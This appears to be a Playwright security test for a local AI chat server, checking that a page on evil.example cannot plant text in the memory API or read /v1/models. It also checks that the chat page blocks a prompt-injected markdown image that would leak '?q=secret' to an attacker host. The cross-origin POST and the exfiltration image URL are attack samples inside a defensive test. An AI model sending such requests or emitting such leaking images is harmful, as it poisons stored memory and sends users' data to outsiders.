// A web page the user visits must not be able to use a keyless `hearth serve` on loopback, and a
// reply must not be able to make the chat page send data elsewhere. Drives headless Chromium:
//  1. a page on another origin (EVIL_URL) POSTs text/plain (no preflight) to the memory API and
//     fetches /v1/models: hearth refuses both, so nothing is written or read;
//  2. on hearth's own chat page, an <img> pointing at EVIL_URL (what a prompt-injected
//     ![](https://attacker/?q=secret) would produce) is blocked by the page's CSP.
// EVIL_URL's server records every request it receives in EVIL_LOG (checked by the caller too).
import { createRequire } from 'node:module';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';

const repo = resolve(dirname(fileURLToPath(import.meta.url)), '../..');
const require = createRequire(join(repo, 'web/package.json'));
const { chromium } = require('playwright-core');

const hearth = process.env.HEARTH_URL.replace(/\/$/, '');
// The attacker's page is served on loopback, but the browser reaches it as http://evil.example:PORT
// (a host-resolver rule), so its origin is a foreign site's, as on the internet.
const evilPort = new URL(process.env.EVIL_URL).port;
const evil = `http://evil.example:${evilPort}`;
let failures = 0;
const check = (cond, what) => {
  console.log(`${cond ? 'ok  ' : 'FAIL'} ${what}`);
  if (!cond) failures++;
};

const profile = mkdtempSync(join(tmpdir(), 'hearth-web-sec-'));
const context = await chromium.launchPersistentContext(profile, {
  executablePath: process.env.CHROMIUM ?? '/usr/bin/chromium',
  headless: true,
  args: ['--host-resolver-rules=MAP evil.example 127.0.0.1', '--headless', '--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run',
         '--disable-background-networking', '--disable-component-update', '--disable-sync'],
});
try {
  const page = await context.newPage();
  await page.goto(`${evil}/attack.html`);
  const result = await page.evaluate(async (target) => {
    const out = {};
    try {
      // A "simple" request: no preflight, the browser sends it and hides only the answer.
      const r = await fetch(`${target}/api/hearth/memory`, {
        method: 'POST', mode: 'no-cors', headers: { 'Content-Type': 'text/plain' },
        body: JSON.stringify({ text: 'planted by evil.example', kind: 'fact' }),
      });
      out.simple = r.type;
    } catch (e) { out.simple = 'error: ' + e; }
    try {
      const r = await fetch(`${target}/v1/models`);
      out.read = await r.text();
    } catch (e) { out.read = 'blocked'; }
    return out;
  }, hearth);
  check(result.read === 'blocked', `cross-origin read of /v1/models is blocked (${String(result.read).slice(0, 60)})`);

  // The memory store must not contain the planted text.
  const mem = await (await fetch(`${hearth}/api/hearth/memory`)).json();
  const texts = (mem.memories ?? []).map((m) => m.text);
  check(!texts.some((t) => String(t).includes('planted')), `the cross-origin POST wrote nothing (${texts.length} memories)`);

  // The chat page may not load anything from elsewhere.
  const chat = await context.newPage();
  const blocked = [];
  chat.on('console', (m) => { if (/Content Security Policy/i.test(m.text())) blocked.push(m.text()); });
  await chat.goto(`${hearth}/`);
  await chat.evaluate((url) => {
    const img = document.createElement('img');
    img.src = `${url}/leak.png?q=secret`;
    document.body.appendChild(img);
  }, evil);
  await chat.waitForTimeout(500);
  check(blocked.length > 0, 'the page\'s CSP blocked the remote image');
} finally {
  await context.close();
  rmSync(profile, { recursive: true, force: true });
}
const log = readFileSync(process.env.EVIL_LOG, 'utf8');
check(!log.includes('/leak.png'), 'the attacker\'s server never saw the leak request');
if (failures) {
  console.log(`${failures} check(s) failed`);
  process.exit(1);
}
console.log('web security: ok');
